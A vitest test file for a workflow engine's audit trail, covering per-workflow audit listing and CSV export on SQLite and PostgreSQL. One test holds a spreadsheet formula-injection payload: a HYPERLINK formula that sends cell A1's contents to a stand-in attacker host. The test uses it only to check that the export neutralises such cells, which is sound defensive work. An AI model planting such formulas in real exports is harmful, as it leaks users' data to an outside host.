// The audit trail as auditors read it: per workflow, in the order things happened, and as CSV that survives
// the texts people type (commas, quotes, line breaks, Japanese). Real databases: SQLite and PostgreSQL.
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { AUDIT_CSV_COLUMNS, auditCsv, listAudit } from '../../src/engine/audit';
import { Engine } from '../../src/engine/engine';
import { createTestDatabase, DIALECTS, type TestDatabase } from '../support/databases';
import { Clock, RunLog, scriptedDefinition, step, steps, testActions } from './support';

const AWKWARD_REASON = 'removed by hand, "already wiped"\n端末は回収済み';

describe.each(DIALECTS)('audit trail on %s', (dialect) => {
  let db: TestDatabase;
  afterEach(async () => {
    await db?.cleanup();
  });

  /** Two workflows: one fails and is skipped by an operator with an awkward reason, one just succeeds. */
  async function twoWorkflows() {
    db = await createTestDatabase(dialect);
    const clock = new Clock();
    const engine = new Engine({
      db: db.prisma,
      definitions: [scriptedDefinition],
      actions: testActions(new RunLog(), clock),
      services: {},
      instanceId: 'audit-1',
      options: { now: clock.now },
    });
    const failing = (await engine.startWorkflow({ kind: 'scripted', input: { steps: [step('wipe', 'broken')] }, actor: 'U_REQ' })).workflow;
    const other = (await engine.startWorkflow({ kind: 'scripted', input: { steps: steps('a') }, actor: 'U_OTHER' })).workflow;
    await engine.runUntilIdle();
    await engine.skipStep(failing.id, 'wipe', 'U_HELPDESK', AWKWARD_REASON);
    return { engine, failing, other };
  }

  it('lists one workflow’s entries only, oldest first, with who did what', async () => {
    const { failing, other } = await twoWorkflows();
    const entries = await listAudit(db.prisma, failing.id);
    expect(entries.every((e) => e.workflowId === failing.id)).toBe(true);
    expect(entries.map((e) => e.id)).toEqual([...entries.map((e) => e.id)].sort((a, b) => a - b));
    expect(entries.map((e) => [e.actor, e.action, e.stepKey, e.fromStatus, e.toStatus])).toEqual([
      ['U_REQ', 'workflow.created', null, null, 'pending'],
      ['engine:audit-1', 'step.transition', 'wipe', 'pending', 'running'],
      ['engine:audit-1', 'workflow.transition', null, 'pending', 'running'],
      ['engine:audit-1', 'step.transition', 'wipe', 'running', 'failed'],
      ['engine:audit-1', 'workflow.transition', null, 'running', 'failed'],
      ['U_HELPDESK', 'step.skip', 'wipe', 'failed', 'skipped'],
      ['U_HELPDESK', 'workflow.transition', null, 'failed', 'succeeded'],
    ]);
    expect(entries[3]).toMatchObject({ message: 'permanent failure', error: 'vendor answered 400: bad request' });
    expect(entries[5]?.message).toBe(AWKWARD_REASON);
    expect((await listAudit(db.prisma, other.id)).map((e) => e.actor)).toContain('U_OTHER');
    expect(await listAudit(db.prisma, 'no-such-workflow')).toEqual([]);
  });

  it('exports CSV that a spreadsheet reads back to the same entries', async () => {
    const { engine, failing } = await twoWorkflows();
    const entries = await listAudit(db.prisma, failing.id);
    const csv = await engine.exportAuditCsv(failing.id);
    expect(csv.split('\n')[0]).toBe(AUDIT_CSV_COLUMNS.join(','));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(entries.length);
    for (const [i, entry] of entries.entries()) {
      expect(rows[i]).toEqual({
        id: String(entry.id),
        at: entry.at.toISOString(),
        workflow_id: failing.id,
        step: entry.stepKey ?? '',
        actor: entry.actor,
        action: entry.action,
        from_status: entry.fromStatus ?? '',
        to_status: entry.toStatus ?? '',
        message: entry.message ?? '',
        error: entry.error ?? '',
      });
    }
    expect(rows.find((r) => r.action === 'step.skip')?.message).toBe(AWKWARD_REASON);
    expect(auditCsv([])).toBe(`${AUDIT_CSV_COLUMNS.join(',')}\n`);
  });

  it('writes a formula typed as a reason as text (issue 14: spreadsheet formula injection)', async () => {
    const { failing } = await twoWorkflows();
    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
    const csv = auditCsv([
      ...(await listAudit(db.prisma, failing.id)),
      {
        id: 99,
        at: new Date(0),
        workflowId: failing.id,
        stepKey: 'wipe',
        actor: '+actor',
        action: 'step.skip',
        fromStatus: null,
        toStatus: null,
        message: formula,
        error: '-1',
      },
    ]);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.at(-1)).toMatchObject({ actor: "'+actor", message: `'${formula}`, error: "'-1" });
    const cells = (parse(csv) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
